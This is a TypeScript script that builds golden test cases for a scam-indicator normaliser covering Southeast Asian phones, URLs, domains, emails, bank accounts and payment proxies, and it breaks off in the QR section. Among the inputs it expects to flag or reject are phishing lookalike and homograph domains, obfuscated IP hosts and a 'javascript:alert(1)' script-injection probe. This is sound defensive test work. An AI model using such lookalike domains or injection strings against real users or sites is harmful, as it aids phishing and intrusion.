// Builds the golden corpus files in ./corpus. Expected values here come from specifications and
// published test vectors (libphonenumber example numbers, BIP-173/350, EIP-55, EMVCo CRC), never
// from running the normaliser. Regenerate deliberately:
//   node -r ./tools/register.js libs/indicators/test/build-corpus.ts
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { getExampleNumber } from 'libphonenumber-js/max';
import examples from 'libphonenumber-js/mobile/examples';
import type { CorpusCase } from './corpus-case';
import { emvTlv, withCrc } from './qr-payload.factory';

type Expect = CorpusCase['expect'];
type Row = [input: string, country: string, hint: string | undefined, expect: Expect];

const ok = (
  type: string,
  canonical: string,
  extra: { warnings?: string[]; related?: string[]; attributes?: Record<string, unknown> } = {},
): Expect => ({ ok: true, type, canonical, ...extra });
const no = (code: string): Expect => ({ ok: false, code });

const ASEAN = ['BN', 'KH', 'ID', 'LA', 'MY', 'MM', 'PH', 'SG', 'TH', 'TL', 'VN'] as const;
const NATIVE_DIGIT_ZERO: Partial<Record<string, number>> = {
  TH: 0x0e50,
  LA: 0x0ed0,
  KH: 0x17e0,
  MM: 0x1040,
};

function nativeDigits(text: string, zero: number): string {
  return text.replace(/\d/g, (d) => String.fromCharCode(zero + Number(d)));
}

function phoneRows(): Row[] {
  const rows: Row[] = [];
  for (const country of ASEAN) {
    const example = getExampleNumber(country, examples);
    if (!example) continue;
    const e164 = example.number;
    const expect = ok('phone', e164, { attributes: { country, lineType: 'mobile' } });
    const national = example.formatNational();
    rows.push([e164, country, 'phone', expect]);
    rows.push([example.formatInternational(), country, 'phone', expect]);
    rows.push([national, country, 'phone', expect]);
    rows.push([national.replace(/\D/g, '-').replace(/-+/g, '-'), country, undefined, expect]);
    rows.push([`00${e164.slice(1)}`, country, 'phone', expect]);
    rows.push([`+${example.countryCallingCode} ${example.nationalNumber}`, 'TH', 'phone', expect]);
    rows.push([e164.slice(1), country, 'phone', expect]);
    rows.push([
      `${national.slice(0, 3)}\u200B${national.slice(3)}`,
      country,
      'phone',
      ok('phone', e164, { warnings: ['input.invisible_characters_removed'] }),
    ]);
    const fullWidth = national.replace(/\d/g, (d) => String.fromCharCode(0xff10 + Number(d)));
    rows.push([fullWidth, country, 'phone', expect]);
    const zero = NATIVE_DIGIT_ZERO[country];
    if (zero) rows.push([nativeDigits(national, zero), country, 'phone', expect]);
    rows.push([`tel:${e164}`, country, 'phone', expect]);
  }
  const fixed: Array<[string, string, string]> = [
    ['02-123-4567', 'TH', '+6621234567'],
    ['6123 4567', 'SG', '+6561234567'],
    ['03-2123 4567', 'MY', '+60321234567'],
    ['021-1234567', 'ID', '+62211234567'],
    ['(02) 8123 4567', 'PH', '+63281234567'],
    ['024 3123 4567', 'VN', '+842431234567'],
    ['021 212 862', 'LA', '+85621212862'],
    ['01 234 567', 'MM', '+951234567'],
    ['222 3456', 'BN', '+6732223456'],
    ['331 2345', 'TL', '+6703312345'],
    ['+66 (0)2 123 4567', 'TH', '+6621234567'],
  ];
  for (const [input, country, e164] of fixed)
    rows.push([
      input,
      country,
      'phone',
      ok('phone', e164, { attributes: { lineType: 'fixed_line' } }),
    ]);
  const mobiles: Array<[string, string, string]> = [
    ['089 123 4567', 'TH', '+66891234567'],
    ['9123 4567', 'SG', '+6591234567'],
    ['011-2345 6789', 'MY', '+601123456789'],
    ['0857-1234-5678', 'ID', '+6285712345678'],
    ['0917 123 4567', 'PH', '+639171234567'],
    ['0383 456 789', 'VN', '+84383456789'],
    ['012 345 678', 'KH', '+85512345678'],
    ['020 5512 3456', 'LA', '+8562055123456'],
    ['09 7812 34567', 'MM', '+959781234567'],
    ['873 4567', 'BN', '+6738734567'],
    ['7723 4567', 'TL', '+67077234567'],
    // Carrier-selection exit codes (TH 001/009, ID 001/007) and a plain 00 from Singapore.
    ['001 66 81 234 5678', 'SG', '+66812345678'],
    ['009-66-81-234-5678', 'TH', '+66812345678'],
    ['0066812345678', 'TH', '+66812345678'],
    ['007 62 812 345 678', 'ID', '+62812345678'],
    ['(+66) 81-234-5678', 'MY', '+66812345678'],
    ['+66 081 234 5678', 'TH', '+66812345678'],
    ['+1 415 555 2671', 'TH', '+14155552671'],
    ['+44 20 7946 0958', 'MY', '+442079460958'],
    ['+86 139 1234 5678', 'KH', '+8613912345678'],
    ['081.234.5678', 'TH', '+66812345678'],
    ['081/234/5678', 'TH', '+66812345678'],
    ['＋６６８１２３４５６７８', 'TH', '+66812345678'],
    ['Tel. 081 234 5678', 'TH', '+66812345678'],
  ];
  for (const [input, country, e164] of mobiles)
    rows.push([input, country, 'phone', ok('phone', e164)]);
  rows.push([
    '081 234 5678 ext 12',
    'TH',
    'phone',
    ok('phone', '+66812345678', { warnings: ['phone.extension_removed'] }),
  ]);
  // Vietnam 2018 renumbering: 11-digit 01xx mobiles became 10-digit 03/05/07/08 numbers.
  const vn: Array<[string, string]> = [
    ['0162 345 6789', '+84323456789'],
    ['0169 123 4567', '+84391234567'],
    ['0120 123 4567', '+84701234567'],
    ['0121 123 4567', '+84791234567'],
    ['0122 123 4567', '+84771234567'],
    ['0126 123 4567', '+84761234567'],
    ['0128 123 4567', '+84781234567'],
    ['0123 123 4567', '+84831234567'],
    ['0124 123 4567', '+84841234567'],
    ['0125 123 4567', '+84851234567'],
    ['0127 123 4567', '+84811234567'],
    ['0129 123 4567', '+84821234567'],
    ['0186 123 4567', '+84561234567'],
    ['0188 123 4567', '+84581234567'],
    ['0199 123 4567', '+84591234567'],
    ['+84 166 123 4567', '+84361234567'],
    ['0084 167 123 4567', '+84371234567'],
  ];
  for (const [input, e164] of vn)
    rows.push([input, 'VN', 'phone', ok('phone', e164, { warnings: ['phone.vn_renumbered'] })]);
  const bad: Array<[string, string, string]> = [
    ['081-234-567', 'TH', 'phone.invalid_number'],
    ['0812345678901234', 'TH', 'phone.too_long'],
    ['+66 12', 'TH', 'phone.too_short'],
    ['081-CALL-NOW', 'TH', 'phone.invalid_characters'],
    ['+66+81234567', 'TH', 'phone.invalid_characters'],
    ['0812345678', '', 'phone.country_required'],
    ['+999 123 456 789', 'TH', 'phone.invalid_country'],
    ['1-800-123-4567', 'TH', 'phone.invalid_length'],
    ['---', 'TH', 'phone.not_a_number'],
    ['0000000000', 'SG', 'phone.invalid_number'],
  ];
  for (const [input, country, code] of bad) rows.push([input, country, 'phone', no(code)]);
  return rows;
}

function shortCodeAndSenderRows(): Row[] {
  return [
    ['1441', 'TH', 'phone', ok('short_code', 'TH:1441')],
    ['1441', 'TH', 'short_code', ok('short_code', 'TH:1441')],
    ['2929', 'PH', 'phone', ok('short_code', 'PH:2929')],
    ['15888', 'MY', 'short_code', ok('short_code', 'MY:15888')],
    ['71999', 'SG', 'short_code', ok('short_code', 'SG:71999')],
    ['3636', 'ID', 'short_code', ok('short_code', 'ID:3636')],
    ['๑๔๔๑', 'TH', 'short_code', ok('short_code', 'TH:1441')],
    ['9191', 'VN', 'short_code', ok('short_code', 'VN:9191')],
    ['1234567', 'TH', 'short_code', no('short_code.invalid')],
    ['0123', 'TH', 'short_code', no('short_code.invalid')],
    ['1441', '', 'short_code', no('context.invalid_country')],
    ['KBANK', 'TH', 'sms_sender', ok('sms_sender', 'TH:KBANK')],
    ['kbank', 'TH', 'sms_sender', ok('sms_sender', 'TH:KBANK')],
    [
      'K-BANK',
      'TH',
      'sms_sender',
      ok('sms_sender', 'TH:K-BANK', { warnings: ['sms_sender.brand_lookalike'] }),
    ],
    [
      'SCB Easy',
      'TH',
      'sender_id',
      ok('sms_sender', 'TH:SCB EASY', { warnings: ['sms_sender.brand_lookalike'] }),
    ],
    ['MAYBANK', 'MY', 'sms_sender', ok('sms_sender', 'MY:MAYBANK')],
    ['DBS', 'SG', 'sms_sender', ok('sms_sender', 'SG:DBS')],
    ['GCASH', 'PH', 'sms_sender', ok('sms_sender', 'PH:GCASH')],
    ['Lazada', 'VN', 'sms_sender', ok('sms_sender', 'VN:LAZADA')],
    ['SHOPEE-TH', 'TH', 'sms_sender', ok('sms_sender', 'TH:SHOPEE-TH')],
    ['BCEL', 'LA', 'sms_sender', ok('sms_sender', 'LA:BCEL')],
    ['KBZPay', 'MM', 'sms_sender', ok('sms_sender', 'MM:KBZPAY')],
    ['BIBD', 'BN', 'sms_sender', ok('sms_sender', 'BN:BIBD')],
    ['Telkomcel', 'TL', 'sms_sender', ok('sms_sender', 'TL:TELKOMCEL')],
    ['ABA BANK', 'KH', 'sms_sender', ok('sms_sender', 'KH:ABA BANK')],
    ['ThisSenderIsTooLong', 'TH', 'sms_sender', no('sms_sender.too_long')],
    ['กสิกร', 'TH', 'sms_sender', no('sms_sender.invalid_characters')],
    ['12345', 'TH', 'sms_sender', no('sms_sender.no_letters')],
  ];
}

function urlRows(): Row[] {
  return [
    [
      'https://kbank-verify.com/login?utm_source=sms&id=1',
      'TH',
      'url',
      ok('url', 'https://kbank-verify.com/login?id=1', {
        warnings: ['domain.brand_impersonation', 'url.tracking_params_removed'],
        related: ['domain:kbank-verify.com'],
      }),
    ],
    [
      'HTTP://EVIL.Example.COM/a/./b/../c',
      'TH',
      'url',
      ok('url', 'http://evil.example.com/a/c', { related: ['domain:evil.example.com'] }),
    ],
    [
      'http://evil.com/foo?fbclid=IwAR123&gclid=abc',
      'MY',
      'url',
      ok('url', 'http://evil.com/foo', { warnings: ['url.tracking_params_removed'] }),
    ],
    [
      'http://evil.com/?utm_medium=x&utm_campaign=y',
      'SG',
      'url',
      ok('url', 'http://evil.com/', { warnings: ['url.tracking_params_removed'] }),
    ],
    [
      'www.scam-shop.co.th/promo',
      'TH',
      undefined,
      ok('url', 'http://www.scam-shop.co.th/promo', { related: ['domain:www.scam-shop.co.th'] }),
    ],
    [
      'hxxps://evil[.]com/login',
      'PH',
      undefined,
      ok('url', 'https://evil.com/login', { warnings: ['input.refanged'] }),
    ],
    [
      'http://evil(.)com/a',
      'PH',
      'url',
      ok('url', 'http://evil.com/a', { warnings: ['input.refanged'] }),
    ],
    ['http://0x7f.1/', 'TH', 'url', ok('url', 'http://127.0.0.1/', { warnings: ['url.ip_host'] })],
    [
      'http://0300.0250.0.01/login',
      'TH',
      'url',
      ok('url', 'http://192.168.0.1/login', { warnings: ['url.ip_host'] }),
    ],
    [
      'http://3232235521/x',
      'TH',
      'url',
      ok('url', 'http://192.168.0.1/x', { warnings: ['url.ip_host'] }),
    ],
    [
      'http://kbank.co.th@evil.com/login',
      'TH',
      'url',
      ok('url', 'http://evil.com/login', {
        warnings: ['url.userinfo_present'],
        related: ['domain:evil.com'],
      }),
    ],
    [
      'http://evil.com:8080/x',
      'TH',
      'url',
      ok('url', 'http://evil.com/x', { warnings: ['url.non_default_port'] }),
    ],
    ['https://evil.com:443/x', 'TH', 'url', ok('url', 'https://evil.com/x')],
    [
      'https://bit.ly/3AbCdEf',
      'ID',
      'url',
      ok('url', 'https://bit.ly/3AbCdEf', { warnings: ['url.shortener'] }),
    ],
    [
      'https://s.id/promo-bri',
      'ID',
      'url',
      ok('url', 'https://s.id/promo-bri', { warnings: ['url.shortener'] }),
    ],
    [
      'https://ธนาคาร.com/login',
      'TH',
      'url',
      ok('url', 'https://xn--42c3bd5b5db.com/login', { related: ['domain:xn--42c3bd5b5db.com'] }),
    ],
    [
      'https://kbаnk.co.th/login',
      'TH',
      'url',
      ok('url', 'https://xn--kbnk-63d.co.th/login', {
        warnings: ['domain.mixed_script', 'domain.homograph'],
      }),
    ],
    [
      'https://scb.co.th.secure-login.xyz/',
      'TH',
      'url',
      ok('url', 'https://scb.co.th.secure-login.xyz/', {
        warnings: ['domain.brand_impersonation'],
      }),
    ],
    [
      'http://maybank2u.com.my.verify-account.cc/',
      'MY',
      'url',
      ok('url', 'http://maybank2u.com.my.verify-account.cc/', {
        warnings: ['domain.brand_impersonation'],
      }),
    ],
    [
      'https://www.kasikornbank.com/th/',
      'TH',
      'url',
      ok('url', 'https://www.kasikornbank.com/th/', {
        attributes: { official: true, protectedBrand: 'Kasikornbank' },
      }),
    ],
    [
      'https://t.me/ScamSupportBot',
      'TH',
      undefined,
      ok('url', 'https://t.me/ScamSupportBot', {
        related: ['domain:t.me', 'messaging:telegram:scamsupportbot'],
      }),
    ],
    [
      'https://wa.me/66812345678?text=hi',
      'TH',
      'url',
      ok('url', 'https://wa.me/66812345678?text=hi', {
        related: ['domain:wa.me', 'messaging:whatsapp:+66812345678'],
      }),
    ],
    [
      'https://line.me/ti/p/~scam.agent',
      'TH',
      'url',
      ok('url', 'https://line.me/ti/p/~scam.agent', {
        related: ['domain:line.me', 'messaging:line:scam.agent'],
      }),
    ],
    [
      'https://www.facebook.com/profile.php?id=100012345678901',
      'PH',
      'url',
      ok('url', 'https://www.facebook.com/profile.php?id=100012345678901', {
        related: ['domain:www.facebook.com', 'messaging:facebook:id:100012345678901'],
      }),
    ],
    [
      'https://m.facebook.com/Cheap.Loans.PH',
      'PH',
      'url',
      ok('url', 'https://m.facebook.com/Cheap.Loans.PH', {
        related: ['domain:m.facebook.com', 'messaging:facebook:cheaploansph'],
      }),
    ],
    [
      'https://zalo.me/0912345678',
      'VN',
      'url',
      ok('url', 'https://zalo.me/0912345678', {
        related: ['domain:zalo.me', 'messaging:zalo:+84912345678'],
      }),
    ],
    ['http://evil.com/a%2Fb', 'TH', 'url', ok('url', 'http://evil.com/a/b')],
    ['http://evil.com/%E0%B8%81', 'TH', 'url', ok('url', 'http://evil.com/%E0%B8%81')],
    ['http://evil.com/ก', 'TH', 'url', ok('url', 'http://evil.com/%E0%B8%81')],
    ['http://evil.com\\login', 'TH', 'url', ok('url', 'http://evil.com/login')],
    ['http://evil.com/login#top', 'TH', 'url', ok('url', 'http://evil.com/login')],
    ['https://EXAMPLE.co.id./', 'ID', 'url', ok('url', 'https://example.co.id/')],
    ['http://evil.com/path//to///x', 'VN', 'url', ok('url', 'http://evil.com/path/to/x')],
    [
      'https://shopee-th.promo-deal.shop/x',
      'TH',
      'url',
      ok('url', 'https://shopee-th.promo-deal.shop/x', {
        warnings: ['domain.brand_impersonation'],
      }),
    ],
    [
      'https://singpass-gov.sg-verify.com/',
      'SG',
      'url',
      ok('url', 'https://singpass-gov.sg-verify.com/', {
        warnings: ['domain.brand_impersonation'],
      }),
    ],
    [
      'https://bdo-online.ph.co/',
      'PH',
      'url',
      ok('url', 'https://bdo-online.ph.co/', { warnings: ['domain.brand_impersonation'] }),
    ],
    [
      'https://vietcombank.com.vn.xn--vn-vtb.com/',
      'VN',
      'url',
      ok('url', 'https://vietcombank.com.vn.xn--vn-vtb.com/', {
        warnings: ['domain.brand_impersonation'],
      }),
    ],
    [
      'https://bcel-one.la-app.net/',
      'LA',
      'url',
      ok('url', 'https://bcel-one.la-app.net/', { warnings: ['domain.brand_impersonation'] }),
    ],
    [
      'https://kbzpay-bonus.com/',
      'MM',
      'url',
      ok('url', 'https://kbzpay-bonus.com/', { warnings: ['domain.brand_impersonation'] }),
    ],
    [
      'https://bibd-secure.com/',
      'BN',
      'url',
      ok('url', 'https://bibd-secure.com/', { warnings: ['domain.brand_impersonation'] }),
    ],
    [
      'https://bnctl-update.com/',
      'TL',
      'url',
      ok('url', 'https://bnctl-update.com/', { warnings: ['domain.brand_impersonation'] }),
    ],
    [
      'https://aba-bank.com.kh-login.top/',
      'KH',
      'url',
      ok('url', 'https://aba-bank.com.kh-login.top/'),
    ],
    [
      'http://[2001:DB8::0:1]:8080/x',
      'TH',
      'url',
      ok('url', 'http://[2001:db8::1]/x', { warnings: ['url.ip_host', 'url.non_default_port'] }),
    ],
    ['http://[zz]/', 'TH', 'url', no('url.invalid_host')],
    ['ftp://evil.com/file', 'TH', 'url', no('url.unsupported_scheme')],
    ['javascript:alert(1)', 'TH', 'url', no('url.unsupported_scheme')],
    ['mailto:a@b.com', 'TH', 'url', no('url.unsupported_scheme')],
    ['http://', 'TH', 'url', no('url.missing_host')],
    ['http://exa mple.com/', 'TH', 'url', no('url.invalid_host')],
    ['http://localhost/admin', 'TH', 'url', no('url.invalid_host')],
    ['http://co.th/', 'TH', 'url', no('url.invalid_host')],
    ['http://%00.com/', 'TH', 'url', no('url.invalid_host')],
  ];
}

function domainRows(): Row[] {
  return [
    [
      'Evil.Example.com.',
      'TH',
      'domain',
      ok('domain', 'evil.example.com', { attributes: { registrableDomain: 'example.com' } }),
    ],
    [
      'rnaybank2u.com',
      'MY',
      'domain',
      ok('domain', 'rnaybank2u.com', {
        warnings: ['domain.homograph'],
        attributes: { lookalikeOf: 'maybank2u.com.my' },
      }),
    ],
    [
      'maybank2u.com',
      'MY',
      'domain',
      ok('domain', 'maybank2u.com', { warnings: ['domain.brand_lookalike'] }),
    ],
    [
      'kbank.com',
      'TH',
      'domain',
      ok('domain', 'kbank.com', { warnings: ['domain.brand_lookalike'] }),
    ],
    [
      'kbаnk.co.th',
      'TH',
      'domain',
      ok('domain', 'xn--kbnk-63d.co.th', { warnings: ['domain.mixed_script', 'domain.homograph'] }),
    ],
    [
      'ѕсb.co.th',
      'TH',
      'domain',
      ok('domain', 'xn--b-6tb3d.co.th', { warnings: ['domain.mixed_script', 'domain.homograph'] }),
    ],
    [
      'krungthal.com',
      'TH',
      'domain',
      ok('domain', 'krungthal.com', { warnings: ['domain.brand_lookalike'] }),
    ],
    [
      'krungsri.com',
      'TH',
      'domain',
      ok('domain', 'krungsri.com', { attributes: { official: true } }),
    ],
    ['ocbc.com', 'SG', 'domain', ok('domain', 'ocbc.com', { attributes: { official: true } })],
    ['0cbc.com', 'SG', 'domain', ok('domain', '0cbc.com', { warnings: ['domain.homograph'] })],
    [
      'dbs-paylah.info',
      'SG',
      'domain',
      ok('domain', 'dbs-paylah.info', { warnings: ['domain.brand_impersonation'] }),
    ],
    [
      'klikbca.com.co',
      'ID',
      'domain',
      ok('domain', 'klikbca.com.co', { warnings: ['domain.brand_lookalike'] }),
    ],
    [
      'gcash-rewards.ph',
      'PH',
      'domain',
      ok('domain', 'gcash-rewards.ph', { warnings: ['domain.brand_impersonation'] }),
    ],
    [
      'vietcornbank.com.vn',
      'VN',
      'domain',
      ok('domain', 'vietcornbank.com.vn', { warnings: ['domain.homograph'] }),
    ],
    [
      'acledabank.com.kh',
      'KH',
      'domain',
      ok('domain', 'acledabank.com.kh', { attributes: { official: true } }),
    ],
    [
      'bcel.com.la',
      'LA',
      'domain',
      ok('domain', 'bcel.com.la', { attributes: { official: true } }),
    ],
    [
      'kbzbank-mm.com',
      'MM',
      'domain',
      ok('domain', 'kbzbank-mm.com', { warnings: ['domain.brand_impersonation'] }),
    ],
    [
      'bibd.com.bn',
      'BN',
      'domain',
      ok('domain', 'bibd.com.bn', { attributes: { official: true } }),
    ],
    ['bnctl.tl', 'TL', 'domain', ok('domain', 'bnctl.tl', { attributes: { official: true } })],
    ['ธนาคาร.ไทย', 'TH', 'domain', ok('domain', 'xn--42c3bd5b5db.xn--o3cw4h')],
    ['ＥＶＩＬ．ＣＯＭ', 'TH', 'domain', ok('domain', 'evil.com')],
    ['evil[.]com', 'TH', 'domain', ok('domain', 'evil.com', { warnings: ['input.refanged'] })],
    [
      'https://evil.com/login',
      'TH',
      'domain',
      ok('domain', 'evil.com', { warnings: ['domain.extracted_from_input'] }),
    ],
    [
      'my-site.blogspot.com',
      'TH',
      'domain',
      ok('domain', 'my-site.blogspot.com', {
        attributes: { registrableDomain: 'my-site.blogspot.com' },
      }),
    ],
    [
      'scam.zzzq',
      'TH',
      'domain',
      ok('domain', 'scam.zzzq', { warnings: ['domain.unknown_suffix'] }),
    ],
    ['co.th', 'TH', 'domain', no('domain.public_suffix')],
    ['localhost', 'TH', 'domain', no('domain.invalid')],
    ['192.168.1.1', 'TH', 'domain', no('domain.is_ip_address')],
    ['-bad-.com', 'TH', 'domain', no('domain.invalid')],
    ['a..b', 'TH', 'domain', no('domain.invalid')],
    [`${'a'.repeat(64)}.com`, 'TH', 'domain', no('domain.invalid')],
    [`${'abcdefghij.'.repeat(24)}com`, 'TH', 'domain', no('domain.too_long')],
    ['user@evil.com', 'TH', 'domain', no('domain.invalid')],
  ];
}

function emailRows(): Row[] {
  return [
    [
      'John.Smith+scam@Gmail.com',
      'TH',
      undefined,
      ok('email', 'johnsmith@gmail.com', {
        warnings: ['email.subaddress_removed'],
        attributes: { freemail: true },
      }),
    ],
    [
      'j.o.h.n@googlemail.com',
      'MY',
      'email',
      ok('email', 'john@gmail.com', { warnings: ['email.subaddress_removed'] }),
    ],
    [
      'Support@KBank-Secure.com',
      'TH',
      'email',
      ok('email', 'support@kbank-secure.com', {
        warnings: ['domain.brand_impersonation'],
        related: ['domain:kbank-secure.com'],
      }),
    ],
    [
      'refund@iras-gov.sg.com',
      'SG',
      'email',
      ok('email', 'refund@iras-gov.sg.com', { warnings: ['domain.brand_impersonation'] }),
    ],
    [
      'mailto:agent@scam.co.id',
      'ID',
      undefined,
      ok('email', 'agent@scam.co.id', { related: ['domain:scam.co.id'] }),
    ],
    [
      'user+tag@outlook.com',
      'PH',
      'email',
      ok('email', 'user@outlook.com', { warnings: ['email.subaddress_removed'] }),
    ],
    ['ngân.hàng@scam.vn', 'VN', 'email', ok('email', 'ngân.hàng@scam.vn')],
    ['info@ธนาคาร.com', 'TH', 'email', ok('email', 'info@xn--42c3bd5b5db.com')],
    ['a@b', 'TH', 'email', no('email.invalid')],
    ['not an email', 'TH', 'email', no('email.invalid')],
    ['@evil.com', 'TH', 'email', no('email.invalid')],
    ['a@@evil.com', 'TH', 'email', no('email.invalid')],
    ['a b@evil.com', 'TH', 'email', no('email.invalid')],
  ];
}

function bankRows(): Row[] {
  return [
    [
      'KBANK 123-4-56789-0',
      'TH',
      'bank_account',
      ok('bank_account', 'TH:004:1234567890', { attributes: { bankName: 'Kasikornbank' } }),
    ],
    ['004 1234567890', 'TH', 'bank_account', ok('bank_account', 'TH:004:1234567890')],
    ['TH:004:123-4-56789-0', 'TH', undefined, ok('bank_account', 'TH:004:1234567890')],
    ['KASITHBK 1234567890', 'TH', 'bank_account', ok('bank_account', 'TH:004:1234567890')],
    ['กสิกรไทย ๑๒๓-๔-๕๖๗๘๙-๐', 'TH', 'bank_account', ok('bank_account', 'TH:004:1234567890')],
    ['SCB: 111-2-33333-4', 'TH', 'bank_account', ok('bank_account', 'TH:014:1112333334')],
    ['Krungsri 7771234567', 'TH', 'bank_account', ok('bank_account', 'TH:025:7771234567')],
    ['ออมสิน 0200-1234-5678', 'TH', 'bank_account', ok('bank_account', 'TH:030:020012345678')],
    ['1234567890', 'TH', 'bank_account', no('bank_account.bank_required')],
    ['SCB 12345', 'TH', 'bank_account', no('bank_account.invalid_length')],
    ['KBANK 12345678901', 'TH', 'bank_account', no('bank_account.invalid_length')],
    ['NOSUCHBANK 1234567890', 'TH', 'bank_account', no('bank_account.unknown_bank')],
    ['KBANK 12-AB-34', 'TH', 'bank_account', no('bank_account.bank_required')],
    ['Maybank 1234 5678 9012', 'MY', 'bank_account', ok('bank_account', 'MY:MBBE:123456789012')],
    ['MBBEMYKL 1234 5678 9012', 'MY', 'bank_account', ok('bank_account', 'MY:MBBE:123456789012')],
    ['CIMB 7012345678', 'MY', 'bank_account', ok('bank_account', 'MY:CIBB:7012345678')],
    ['Public Bank 3123456789', 'MY', 'bank_account', ok('bank_account', 'MY:PBBE:3123456789')],
    ['RHB 123456', 'MY', 'bank_account', no('bank_account.invalid_length')],
    ['DBS 012-345678-9', 'SG', 'bank_account', ok('bank_account', 'SG:7171:0123456789')],
    ['POSB 123-45678-9', 'SG', 'bank_account', ok('bank_account', 'SG:7171:123456789')],
    ['OCBC 501-123456-001', 'SG', 'bank_account', ok('bank_account', 'SG:7339:501123456001')],
    ['UOB 123-456-789-0', 'SG', 'bank_account', ok('bank_account', 'SG:7375:1234567890')],
    ['BCA 1234567890', 'ID', 'bank_account', ok('bank_account', 'ID:014:1234567890')],
    ['BRI 0123-01-012345-50-1', 'ID', 'bank_account', ok('bank_account', 'ID:002:012301012345501')],
    ['Mandiri 123-00-1234567-8', 'ID', 'bank_account', ok('bank_account', 'ID:008:1230012345678')],
    ['014 1234567890', 'ID', 'bank_account', ok('bank_account', 'ID:014:1234567890')],
    ['BDO 001234567890', 'PH', 'bank_account', ok('bank_account', 'PH:BNOR:001234567890')],
    ['BPI 1234-5678-90', 'PH', 'bank_account', ok('bank_account', 'PH:BOPI:1234567890')],
    [
      'Metrobank 123-3-12345678-9',
      'PH',
      'bank_account',
      ok('bank_account', 'PH:MBTC:1233123456789'),
    ],
    [
      'Vietcombank 0011001234567',
      'VN',
      'bank_account',
      ok('bank_account', 'VN:970436:0011001234567'),
    ],
    ['970436 0011001234567', 'VN', 'bank_account', ok('bank_account', 'VN:970436:0011001234567')],
    [
      'Techcombank 19031234567890',
      'VN',
      'bank_account',
      ok('bank_account', 'VN:970407:19031234567890'),
    ],
    ['ABA 000123456', 'KH', 'bank_account', ok('bank_account', 'KH:ABAA:000123456')],
    ['ACLBKHPP 1234567890123', 'KH', 'bank_account', ok('bank_account', 'KH:ACLB:1234567890123')],
    [
      'BCEL 010120001234567001',
      'LA',
      'bank_account',
      ok('bank_account', 'LA:COEB:010120001234567001'),
    ],
    [
      'KBZ 02730102712345601',
      'MM',
      'bank_account',
      ok('bank_account', 'MM:KBZB:02730102712345601'),
    ],
    ['BIBD 00011234567890', 'BN', 'bank_account', ok('bank_account', 'BN:BIBD:00011234567890')],
    [
      'TL380080012345678910157',
      'TL',
      undefined,
      ok('bank_account', 'TL:008:0012345678910157', {
        attributes: { iban: 'TL380080012345678910157' },
      }),
    ],
    [
      'TL38 0080 0123 4567 8910 157',
      'TL',
      'bank_account',
      ok('bank_account', 'TL:008:0012345678910157'),
    ],
    ['TL380080012345678910158', 'TL', 'bank_account', no('bank_account.invalid_iban')],
    ['1234567890', 'TL', 'bank_account', no('bank_account.iban_required')],
    ['GB82WEST12345698765432', 'TH', 'bank_account', ok('bank_account', 'GB:WEST:12345698765432')],
    ['KASIXXBK 1234567890', 'TH', 'bank_account', no('bank_account.invalid_bic')],
    [
      'CHASUS33 123456789',
      'TH',
      'bank_account',
      ok('bank_account', 'US:CHAS:123456789', { warnings: ['bank_account.unregistered_bank'] }),
    ],
    ['1234567890', 'TH', 'bank_account', no('bank_account.bank_required')],
  ];
}

function thaiIdCheckDigit(first12: string): string {
  let sum = 0;
  for (let i = 0; i < 12; i++) sum += Number(first12[i]) * (13 - i);
  return String((11 - (sum % 11)) % 10);
}

function paymentRows(): Row[] {
  const citizen = `110170023070${thaiIdCheckDigit('110170023070')}`;
  const juristic = `010555${'123456'}${thaiIdCheckDigit('010555123456')}`;
  const wrong = `${citizen.slice(0, 12)}${(Number(citizen[12]) + 1) % 10}`;
  return [
    ['promptpay:081-234-5678', 'TH', undefined, ok('payment_proxy', 'promptpay:+66812345678')],
    ['PromptPay 0812345678', 'TH', 'payment_proxy', ok('payment_proxy', 'promptpay:+66812345678')],
    ['081 234 5678', 'TH', 'promptpay', ok('payment_proxy', 'promptpay:+66812345678')],
    ['081 234 5678', 'TH', 'payment_proxy', ok('payment_proxy', 'promptpay:+66812345678')],
    [
      citizen,
      'TH',
      'promptpay',
      ok('payment_proxy', `promptpay:id:${citizen}`, { attributes: { proxyKind: 'citizen_id' } }),
    ],
    [
      juristic,
      'TH',
      'promptpay',
      ok('payment_proxy', `promptpay:id:${juristic}`, { attributes: { proxyKind: 'juristic_id' } }),
    ],
    [wrong, 'TH', 'promptpay', no('payment_proxy.invalid_checksum')],
    [
      '123456789012345',
      'TH',
      'promptpay',
      ok('payment_proxy', 'promptpay:ewallet:123456789012345'),
    ],
    ['promptpay:+6591234567', 'TH', undefined, no('payment_proxy.invalid_mobile')],
    ['duitnow:012-345 6789', 'MY', undefined, ok('payment_proxy', 'duitnow:+60123456789')],
    ['900101-01-5555', 'MY', 'duitnow', ok('payment_proxy', 'duitnow:nric:900101015555')],
    ['201901000005', 'MY', 'duitnow', ok('payment_proxy', 'duitnow:brn:201901000005')],
    ['passport:A12345678', 'MY', 'duitnow', ok('payment_proxy', 'duitnow:passport:A12345678')],
    ['901301015555', 'MY', 'duitnow', no('payment_proxy.invalid_id')],
    ['paynow:9123 4567', 'SG', undefined, ok('payment_proxy', 'paynow:+6591234567')],
    ['S1234567D', 'SG', 'paynow', ok('payment_proxy', 'paynow:nric:S1234567D')],
    ['F1234567N', 'SG', 'paynow', ok('payment_proxy', 'paynow:nric:F1234567N')],
    ['S1234567A', 'SG', 'paynow', no('payment_proxy.invalid_checksum')],
    [
      '201912345A',
      'SG',
      'paynow',
      ok('payment_proxy', 'paynow:uen:201912345A', { warnings: ['payment_proxy.unverified_id'] }),
    ],
    [
      '53012345D',
      'SG',
      'paynow',
      ok('payment_proxy', 'paynow:uen:53012345D', { warnings: ['payment_proxy.unverified_id'] }),
    ],
    [
      'T09LL0001B',
      'SG',
      'paynow',
      ok('payment_proxy', 'paynow:uen:T09LL0001B', { warnings: ['payment_proxy.unverified_id'] }),
    ],
    ['qris:ID1020021234567', 'ID', undefined, ok('payment_proxy', 'qris:ID1020021234567')],
    ['bakong:John_Smith@ACLB', 'KH', undefined, ok('payment_proxy', 'bakong:john_smith@aclb')],
    ['0812345678', 'PH', 'payment_proxy', no('payment_proxy.unknown_scheme')],
    ['paynow:12', 'SG', undefined, no('payment_proxy.invalid_mobile')],
  ];
}

function qrRows(): Row[] {
  const promptpay = withCrc(
    `${emvTlv('00', '01')}${emvTlv('01', '11')}${emvTlv('29', `${emvTlv('00', 'A000000677010111')}${emvTlv('01', '0066812345678')}`)}${emvTlv('58', 'TH')}${emvTlv('53', '764')}`,
  );
  const promptpayDynamic = withCrc(
